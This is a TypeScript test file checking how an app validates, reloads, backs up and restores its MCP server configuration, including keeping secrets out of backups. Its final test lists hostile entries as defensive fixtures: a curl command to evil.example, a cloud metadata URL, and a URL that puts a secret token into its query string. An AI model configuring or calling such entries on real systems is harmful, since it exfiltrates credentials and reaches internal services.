import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { adminToolsApi } from '@knowhow/shared/config/admin-tools';
import { healthApi } from '@knowhow/shared/config/health';
import { afterEach, expect, test } from 'vitest';
import {
  createZip,
  exportBackup,
  importBackup,
  sendBackup,
} from '../../../testing/backup-calls.ts';
import { parseAnswer } from '../../../testing/parse-answer.ts';
import { signInAdmin } from '../../../testing/sign-in-admin.ts';
import {
  startTestServer,
  type TestServer,
  type Visitor,
} from '../../../testing/start-test-server.ts';
import { waitFor } from '../../../testing/wait-for.ts';
import { mcpFileSchema } from '../../content/mcp-file-schema.ts';

let server: TestServer;
afterEach(() => server.close());

const path = 'contents/config/mcp.json';
const harmless = { url: 'https://example.org/mcp' };

async function start(config: unknown, environment: Record<string, string> = {}) {
  server = await startTestServer({
    files: { 'config/mcp.json': config },
    environment,
  });
  return signInAdmin(server);
}

async function faults(admin: Visitor) {
  const response = await admin('/api/admin/faults');
  const { items } = healthApi.faults.response.parse(await response.json());
  return items.filter((fault) => fault.path === path);
}

const write = (config: unknown) =>
  writeFile(
    join(server.folder, path),
    typeof config === 'string' ? config : JSON.stringify(config),
  );

test.each([
  ['{"mcpServers": ', undefined, 'Not valid JSON'],
  [{ mcpServers: { 'a b': harmless } }, 'mcpServers.a b', 'name of a server'],
  [{ mcpServers: { a: { url: 'ftp://example.org' } } }, 'mcpServers.a.url', 'http://'],
  [{ mcpServers: { a: {} } }, 'mcpServers.a.url', 'Say where the server is'],
  [{ mcpServers: { a: { ...harmless, command: 'x' } } }, 'mcpServers.a.command', 'either'],
  [{ mcpServers: { a: harmless, A: harmless } }, 'mcpServers.A', 'already called'],
  [
    { servers: [{ id: 'a', transport: { type: 'websocket', url: 'https://a.org' } }] },
    'servers.0.transport',
    '',
  ],
  [
    { mcpServers: { a: { ...harmless, headers: { 'X-A': 'one\ntwo' } } } },
    'mcpServers.a.headers.X-A',
    'one line',
  ],
])('reports an invalid file with its field: %j', async (config, field, message) => {
  const admin = await start(config);
  const [fault] = await faults(admin);
  expect(fault?.field).toBe(field);
  expect(fault?.message).toContain(message);
});

test('a server cannot use the name of a built-in source or tool, and so gain its permissions', async () => {
  const admin = await start({ mcpServers: {} });
  const { sources } = await parseAnswer(adminToolsApi.list.response, admin('/api/admin/tools'));
  const own = sources.flatMap(({ id, tools }) => [id, ...tools.map(({ name }) => name)]);
  expect(own).toEqual(expect.arrayContaining(['builtin', 'skills', 'scripts', 'calculate']));
  for (const name of [...own, 'run_skill_script', 'knowhow', 'BuiltIn']) {
    const config = { mcpServers: { [name]: harmless } };
    expect(mcpFileSchema.safeParse(config).error?.issues[0]?.message).toContain("Knowhow's own");
  }
});

test('the file is reloaded on change, and its last valid state stays while it is invalid', async () => {
  const admin = await start({ mcpServers: { one: { ...harmless, enabled: false } } });
  expect(await faults(admin)).toEqual([]);
  await write('{');
  await waitFor(async () => (await faults(admin)).length === 1);
  await write({ mcpServers: {} });
  await waitFor(async () => (await faults(admin)).length === 0);
});

test('only variables for servers may contain secrets, and nothing else can be read', async () => {
  const server = (name: string) => ({
    mcpServers: { a: { ...harmless, enabled: false, headers: { Authorization: `\${${name}}` } } },
  });
  const admin = await start(server('MCP_TOKEN'), {
    MCP_TOKEN: 'sk-a-secret-1234',
    PATH_TOKEN: 'x',
  });
  expect(await faults(admin)).toEqual([]);
  await write(server('PATH_TOKEN'));
  await waitFor(async () => (await faults(admin)).length === 1);
  expect(await faults(admin)).toMatchObject([
    {
      field: 'mcpServers.a.headers.Authorization',
      message: expect.stringContaining('MCP_PATH_TOKEN'),
    },
  ]);
});

test('no other configuration file can read a variable for servers', async () => {
  server = await startTestServer({
    files: {
      'prompts/leak.json': { id: 'leak', name: 'Leak', prompt: 'It is ${MCP_TOKEN}.' },
    },
    environment: { MCP_TOKEN: 'sk-a-secret-1234' },
  });
  const response = await server.visitor()('/api/prompts');
  expect(await response.text()).not.toContain('sk-a-secret');
});

test('a backup contains the file without its secrets, and a restore brings it back', async () => {
  const config = {
    mcpServers: {
      a: { ...harmless, enabled: false, headers: { Authorization: 'Bearer LEAKME' } },
      b: { command: 'no-such-command', args: ['x'], enabled: false },
    },
  };
  const admin = await start(config);
  const zip = await exportBackup(admin);
  expect(zip.includes('LEAKME')).toBe(false);
  await write({ ...config, more: true });
  await importBackup(admin, zip, '?only=config');
  expect(JSON.parse(await readFile(join(server.folder, path), 'utf8'))).toEqual(config);
});

test.each([
  ['a command', { command: 'curl', args: ['https://evil.example'] }],
  ['another argument of a known command', { command: 'node', args: ['evil.js'], enabled: false }],
  ['a URL', { url: 'http://169.254.169.254/mcp' }],
  ['a URL that gets a header', { url: 'https://evil.example', headers: { 'X-A': 'a' } }],
  ['a URL with a query', { url: 'https://evil.example/?key=${MCP_TOKEN}' }],
])('a restore on the pages does not import %s', async (_, brought) => {
  const known = { command: 'node', args: ['good.js'], enabled: false };
  const admin = await start({ mcpServers: { known } });
  const files = { 'contents/config/mcp.json': { mcpServers: { known: brought } } };
  const response = await sendBackup(admin, createZip(files), '?only=config/mcp.json');
  expect(response.status).toBe(400);
  expect(await response.text()).toContain('npx knowhow restore');
  expect(await readFile(join(server.folder, path), 'utf8')).toContain('good.js');
});
